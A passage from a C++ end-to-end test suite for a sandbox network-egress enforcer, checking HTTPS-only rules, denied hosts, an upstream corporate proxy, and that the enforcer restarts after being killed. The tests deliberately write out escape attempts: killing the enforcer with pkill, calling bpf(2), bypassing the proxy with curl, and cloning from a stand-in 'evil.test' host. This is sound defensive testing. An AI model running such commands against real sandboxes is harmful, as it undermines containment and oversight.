              "python3 -c 'import ctypes; l = ctypes.CDLL(None, use_errno=True); "
              "print(\"bpf\", l.syscall(321, 0, 0, 0), ctypes.get_errno())'; "
              "pkill -9 km-enforcer; echo pkill=$?; ls /sys/fs/bpf 2>/dev/null | wc -l",
              true);
  EXPECT_EQ(r.out.find("procs=0"), std::string::npos) << dump(r);    // cannot leave its cgroup
  EXPECT_NE(r.out.find("bpf -1 1"), std::string::npos) << dump(r);   // bpf(2): EPERM
  EXPECT_NE(r.out.find("pkill=1"), std::string::npos) << dump(r);    // the enforcer is not even visible
  auto after = sh("curl -sS -m 5 --noproxy '*' http://203.0.113.10/; echo rc=$?", true);
  EXPECT_EQ(after.out.find("\"server\""), std::string::npos) << dump(after);
  EXPECT_EQ(hits_at("203.0.113.10"), 0u);
}

TEST_F(Egress, HttpsOnlyRefusesPlainHttp) {
  // The privileged sandbox's profile says httpsOnly.
  auto explicit_http = sh("curl -sS -m 5 -o /dev/null -w '%{http_code}' http://allowed.test/plain", true);
  EXPECT_EQ(explicit_http.out, "403") << dump(explicit_http);
  auto transparent = sh("curl -sS -m 5 --noproxy '*' http://allowed.test/plain", true);
  EXPECT_NE(transparent.status, 0) << dump(transparent);
  auto tls = sh("curl -sS -m 5 --noproxy '*' --cacert /workspace/ca.pem https://allowed.test/tls", true);
  EXPECT_EQ(tls.status, 0) << dump(tls);
  for (const auto& h : world_->hits()) EXPECT_NE(h.path, "/plain");
  EXPECT_GE(audited({{"kind", "connect"}, {"rule", "httpsOnly"}, {"verdict", "deny"}}, priv_id_).size(), 2u);
}

TEST_F(Egress, GitOverHttpToADeniedHostFails) {
  auto r = sh("cd /tmp && timeout 20 git clone -q http://evil.test/repo.git 2>&1; echo rc=$?");
  EXPECT_EQ(r.out.find("rc=0"), std::string::npos) << dump(r);
  EXPECT_NE(r.out.find("403"), std::string::npos) << dump(r);
  EXPECT_EQ(hits_at("203.0.113.10"), 0u);
  EXPECT_FALSE(audited({{"kind", "connect"}, {"name", "evil.test"}, {"verdict", "deny"}}).empty());
}

TEST_F(Egress, EnforcerKilledLeavesNoEgressAndIsRestarted) {
  std::string rdir = root_ + "/run/sandboxes/" + id_;
  auto rec = km::read_file(rdir + "/enforcer.pid", 4096);
  ASSERT_TRUE(rec) << rec.error().to_string();
  pid_t pid = std::stoi(*rec);
  ASSERT_EQ(::kill(pid, SIGKILL), 0);
  // While it is down (or restarting), nothing gets out: no forwarding exists without it.
  auto r = sh("curl -sS -m 3 --noproxy '*' http://203.0.113.10/; dig +short +time=1 +tries=1 @203.0.113.53 evil.test | grep -cx '203.0.113.10'");
  EXPECT_EQ(r.out.find("\"server\""), std::string::npos) << dump(r);
  EXPECT_NE(r.out.find("0\n"), std::string::npos) << dump(r);
  EXPECT_EQ(hits_at("203.0.113.10") + hits_at("203.0.113.53"), 0u);
  // kmd restarts it (its supervision tick runs every second).
  std::string again;
  for (int i = 0; i < 100; ++i) {
    auto now = km::read_file(rdir + "/enforcer.pid", 4096);
    if (now && std::stoi(*now) != pid && ::kill(std::stoi(*now), 0) == 0) {
      again = *now;
      break;
    }
    std::this_thread::sleep_for(100ms);
  }
  ASSERT_FALSE(again.empty()) << "the enforcer was not restarted";
  auto ok = sh("curl -sS -m 10 --cacert /workspace/ca.pem https://allowed.test/after-restart");
  EXPECT_EQ(ok.status, 0) << dump(ok);
  auto st = km({"-o", "json", "status", id_});
  EXPECT_NE(st.out.find("enforcer-restarted"), std::string::npos);
}

}  // namespace

namespace {

// A minimal corporate proxy for the test: CONNECT only, logs each target, then relays.
constexpr const char* kCorporateProxy = R"(import socket, sys, threading
log = open(sys.argv[2], 'a', buffering=1)
srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind((sys.argv[1], 3128)); srv.listen(64); srv.settimeout(120)
def pipe(a, b):
    try:
        while True:
            d = a.recv(65536)
            if not d: break
            b.sendall(d)
    except OSError: pass
    finally:
        try: b.shutdown(socket.SHUT_WR)
        except OSError: pass
def serve(c):
    c.settimeout(30)
    head = b''
    while b'\r\n\r\n' not in head and len(head) < 8192:
        d = c.recv(4096)
        if not d: return c.close()
        head += d
    line = head.split(b'\r\n')[0].decode()
    method, target, _ = line.split(' ', 2)
    log.write(target + '\n')
    if method != 'CONNECT': c.sendall(b'HTTP/1.1 405 No\r\n\r\n'); return c.close()
    host, port = target.rsplit(':', 1)
    up = socket.create_connection(({'allowed.test': '198.51.100.10'}.get(host, host), int(port)), 10)
    c.sendall(b'HTTP/1.1 200 Connection established\r\n\r\n')
    threading.Thread(target=pipe, args=(c, up), daemon=True).start()
    pipe(up, c)
for _ in range(200):
    try: c, _ = srv.accept()
    except socket.timeout: break
    threading.Thread(target=serve, args=(c,), daemon=True).start()
)";

TEST(EgressUpstream, EnforcerDialsThroughTheConfiguredProxy) {
  if (::geteuid() != 0) GTEST_SKIP() << "e2e test: kmd needs root";
  km::testing::WorldOptions opts;
  opts.hosts.push_back({"203.0.113.20", {"proxy.corp.test"}, false});
  auto world = TestWorld::create(opts);
  ASSERT_TRUE(world) << world.error().to_string();
  char tmpl[] = "/tmp/km-egress-up-XXXXXX";
  std::string root = ::mkdtemp(tmpl);
  ::chmod(root.c_str(), 0711);
  std::string cg = "km-egress-up-" + std::to_string(::getpid());
  std::ofstream(root + "/proxy.py") << kCorporateProxy;
  auto proxy = (*world)->spawn_in_world_netns({"python3", root + "/proxy.py", "203.0.113.20", root + "/connects.log"}, {}, root + "/proxy.out");
  ASSERT_TRUE(proxy) << proxy.error().to_string();
  bool listening = false;
  for (int i = 0; i < 100 && !listening; ++i) {
    auto probe = (*world)->run_in_kmd_netns({"nc", "-z", "-w", "1", "203.0.113.20", "3128"}, 3s);
    listening = probe && probe->status == 0;
    if (!listening) std::this_thread::sleep_for(50ms);
  }
  ASSERT_TRUE(listening) << km::read_file(root + "/proxy.out", 1 << 20).value_or("");
  std::ofstream(root + "/kmd.yaml") << "upstreamDNS: [\"198.51.100.53\"]\nupstreamProxy: http://203.0.113.20:3128\n";
  std::string p = kProfile;
  p.replace(p.find("PRIVILEGED"), 10, "false");
  p.replace(p.find("PRIVILEGED"), 10, "false");
  p.replace(p.find("MODE"), 4, "proxy");
  std::ofstream(root + "/p.yaml") << p;
  auto kmd = (*world)->spawn_in_kmd_netns({KMD_BIN, "--foreground", "--config", root + "/kmd.yaml", "--state-dir", root + "/state",
                                           "--runtime-dir", root + "/run", "--group", "", "--cgroup-name", cg},
                                          {}, root + "/kmd.log");
  ASSERT_TRUE(kmd) << kmd.error().to_string();
  auto km = [&](std::vector<std::string> args, const std::string& input = "") {
    args.insert(args.begin(), KM_BIN);
    return run(args, {{"KM_SOCKET", root + "/run/kmd.sock"}}, input);
  };
  for (int i = 0; i < 500 && km({"list"}).status != 0; ++i) std::this_thread::sleep_for(10ms);
  auto c = km({"create", root + "/p.yaml"});
  ASSERT_EQ(c.status, 0) << c.err;
  std::string id = c.out.substr(0, c.out.find('\n'));
  km({"exec", id, "--", "sh", "-c", "cat > /workspace/ca.pem"}, km::read_file((*world)->ca_bundle(), 1 << 20).value_or(""));
  auto r = km({"exec", id, "--", "curl", "-sS", "-m", "10", "--cacert", "/workspace/ca.pem", "https://allowed.test/via-corp"});
  EXPECT_EQ(r.status, 0) << r.out << r.err << km::read_file(root + "/proxy.out", 1 << 20).value_or("")
                         << km({"logs", id, "--type", "dns,net,http"}).out;
  EXPECT_NE(r.out.find("/via-corp"), std::string::npos);
  auto t = km({"exec", id, "--", "curl", "-sS", "-m", "10", "--noproxy", "*", "--cacert", "/workspace/ca.pem", "https://allowed.test/transparent"});
  EXPECT_EQ(t.status, 0) << t.out << t.err;
  auto log = km::read_file(root + "/connects.log", 1 << 20).value_or("");
  // The enforcer names the address it checked, so the corporate proxy cannot resolve elsewhere.
  EXPECT_NE(log.find("198.51.100.10:443"), std::string::npos) << log;
  // Policy still applies before the corporate proxy is asked.
  auto denied = km({"exec", id, "--", "curl", "-sS", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}", "http://evil.test/"});
  EXPECT_EQ(denied.out, "403");
  EXPECT_EQ(km::read_file(root + "/connects.log", 1 << 20).value_or("").find("evil"), std::string::npos);
  km({"destroy", id});
  ::kill(*kmd, SIGTERM);
  (void)(*world)->wait_exit(*kmd, 10s);
  world->reset();
  std::system(("umount -l '" + root + "/run/bpf' 2>/dev/null; rm -rf '" + root + "'").c_str());
  std::system(("rmdir /sys/fs/cgroup/*/" + cg + " 2>/dev/null").c_str());  // every hierarchy
}

}  // namespace
